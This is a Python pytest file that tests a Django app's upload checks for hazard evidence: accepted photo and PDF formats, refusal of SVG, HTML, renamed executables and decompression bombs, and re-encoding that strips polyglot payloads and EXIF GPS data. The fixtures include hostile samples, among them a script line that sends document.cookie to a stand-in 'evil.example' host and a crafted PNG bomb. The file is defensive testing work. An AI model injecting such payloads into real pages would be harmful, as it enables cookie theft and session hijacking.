"""Evidence uploads: accepted by content, refused with a message naming the file and the rule."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image

from anpai.core.errors import Invalid
from anpai.hazards import actions, evidence
from anpai.hazards.choices import AttachmentKind
from anpai.hazards.models import Attachment
from anpai.hazards.tests.conftest import make_jpeg, make_pdf


@pytest.fixture(autouse=True)
def english():
    """Messages are checked in English (the source strings)."""
    with translation.override("en"):
        yield


def _upload(name: str, data: bytes, content_type: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


def _image(fmt: str, size=(120, 80), mode="RGB", **save) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, (30, 120, 200) if mode == "RGB" else 128).save(buffer, format=fmt, **save)
    return buffer.getvalue()


def _refused(upload, *words: str) -> str:
    with pytest.raises(Invalid) as err:
        evidence.check(upload)
    message = " ".join(str(m) for m in err.value.fields["file"])
    assert upload.name in message
    for word in words:
        assert word in message, message
    return message


def _png_header(width: int, height: int) -> bytes:
    """A tiny PNG that declares huge dimensions (the pixels are never there)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    idat = zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


# ------------------------------------------------------------------ accepted


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp")],
)
def test_common_photo_formats_are_accepted(fmt, content_type):
    item = evidence.check(_upload(f"p.{fmt.lower()}", _image(fmt)))
    assert item.is_image
    assert item.content_type == content_type


def test_heic_from_a_phone_is_accepted_and_stored_as_jpeg(demo, new_hazard):
    import pillow_heif

    buffer = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (64, 48), (10, 200, 10))).save(buffer, format="HEIF")
    item = evidence.check(_upload("IMG_0001.HEIC", buffer.getvalue(), "image/heic"))
    assert item.content_type == "image/heic"
    attachment = evidence.store(new_hazard(), item, AttachmentKind.BEFORE, demo["ent1safety"])
    assert attachment.content_type == "image/jpeg"
    with attachment.file.open("rb") as fh:
        assert Image.open(fh).format == "JPEG"


def test_pdf_is_accepted():
    item = evidence.check(make_pdf())
    assert item.content_type == "application/pdf"
    assert not item.is_image


def test_a_file_read_before_is_checked_from_its_start():
    upload = make_jpeg()
    upload.read(10)
    assert evidence.check(upload).is_image


# ------------------------------------------------------------------ refused


def test_svg_is_refused_even_named_jpg():
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>'
    _refused(_upload("site-plan.jpg", svg), "SVG")


def test_svg_with_script_is_refused():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    _refused(_upload("photo.svg", svg, "image/svg+xml"), "SVG")


def test_html_is_refused():
    _refused(_upload("photo.jpg", b"<!doctype html><html><script>x()</script></html>"))


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("photo.jpg", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200),
        ("plan.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200),
        ("photo.jpg", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200),
    ],
)
def test_renamed_programs_are_refused(name, data):
    _refused(_upload(name, data), "program")


def test_unaccepted_image_format_names_the_accepted_ones():
    _refused(_upload("scan.gif", _image("GIF", mode="L"), "image/gif"), "JPEG", "PDF")


def test_decompression_bomb_is_refused_without_decoding_it():
    data = _png_header(20000, 20000)
    assert len(data) < 200
    _refused(_upload("bomb.png", data, "image/png"), "pixels")


def test_just_over_the_pixel_limit_is_refused(monkeypatch):
    monkeypatch.setattr(evidence, "MAX_PIXELS", 100 * 100)
    _refused(_upload("big.png", _image("PNG", size=(120, 100)), "image/png"), "pixels")


def test_oversize_file_is_refused(settings):
    settings.ANPAI_UPLOAD_MAX_BYTES = 1024 * 1024
    data = b"%PDF-1.4\n" + b"0" * (1024 * 1024) + b"\n%%EOF\n"
    _refused(_upload("scan.pdf", data, "application/pdf"), "1 MB")
    # Also when the upload does not say its size (read, never trusted).
    upload = _upload("scan.pdf", data, "application/pdf")
    upload.size = None
    _refused(upload, "1 MB")


def test_empty_file_is_refused():
    _refused(_upload("empty.jpg", b""), "empty")


def test_truncated_pdf_is_refused():
    data = make_pdf().read()
    _refused(_upload("report.pdf", data[: len(data) // 2], "application/pdf"), "PDF")


def test_truncated_jpeg_is_refused():
    data = _image("JPEG", size=(400, 300), quality=95)
    _refused(_upload("cut.jpg", data[: len(data) // 2]))


# ------------------------------------------------------------------ what is stored


@pytest.mark.parametrize(
    "payload",
    [
        b"PK\x03\x04" + b"\x14\x00" * 10 + b"evil.exe" + b"PK\x05\x06" + b"\x00" * 18,
        b"<html><script>document.location='https://evil.example/'+document.cookie</script>",
    ],
)
def test_polyglot_is_stored_re_encoded_without_its_payload(demo, new_hazard, payload):
    data = _image("JPEG") + payload
    item = evidence.check(_upload("photo.jpg", data))
    attachment = evidence.store(new_hazard(), item, AttachmentKind.BEFORE, demo["ent1safety"])
    stored = attachment.file.read()
    attachment.file.close()
    assert payload not in stored
    assert b"evil" not in stored
    assert b"<script" not in stored
    assert stored.startswith(b"\xff\xd8")
    assert attachment.sha256 == item.sha256  # the hash still identifies the upload


def _exif_jpeg(orientation: int, gps: bool = True) -> bytes:
    image = Image.new("RGB", (200, 100), (200, 30, 30))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "AcmePhone"  # Make
    if gps:
        exif[0x8825] = {1: "N", 2: (37.0, 27.0, 3.6), 3: "E", 4: (112.0, 1.0, 1.2)}
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", exif=exif)
    return buffer.getvalue()


def test_exif_orientation_is_applied_and_exif_stripped(demo, new_hazard):
    data = _exif_jpeg(6)
    with Image.open(io.BytesIO(data)) as original:
        assert original.size == (200, 100)
        assert original.getexif().get_ifd(0x8825)  # GPS is in the upload
    item = evidence.check(_upload("IMG_2024.jpg", data))
    attachment = evidence.store(new_hazard(), item, AttachmentKind.BEFORE, demo["ent1safety"])
    with attachment.file.open("rb") as fh:
        raw = fh.read()
    stored = Image.open(io.BytesIO(raw))
    assert stored.size == (100, 200)  # rotated upright: width and height swapped
    exif = stored.getexif()
    assert 0x8825 not in exif
    assert not exif.get_ifd(0x8825)
    assert 0x0112 not in exif
    assert b"AcmePhone" not in raw
    assert b"Exif" not in raw


def test_thumbnails_are_at_most_480_px(demo, new_hazard):
    item = evidence.check(_upload("wide.png", _image("PNG", size=(2000, 900)), "image/png"))
    attachment = evidence.store(new_hazard(), item, AttachmentKind.BEFORE, demo["ent1safety"])
    with attachment.thumbnail.open("rb") as fh:
        thumb = Image.open(fh)
        thumb.load()
    assert max(thumb.size) <= 480
    assert thumb.size == (480, 216)
    assert Attachment.objects.filter(pk=attachment.pk, content_type="image/jpeg").exists()


def test_refused_file_in_an_action_saves_nothing(demo, new_hazard):
    h = new_hazard()
    count = Attachment.objects.count()
    with pytest.raises(Invalid) as err:
        actions.attach(
            h, by=demo["ent1safety"], file=_upload("x.jpg", b"MZ" + b"\0" * 99), kind="before"
        )
    assert "x.jpg" in str(err.value.fields["file"][0])
    assert Attachment.objects.count() == count
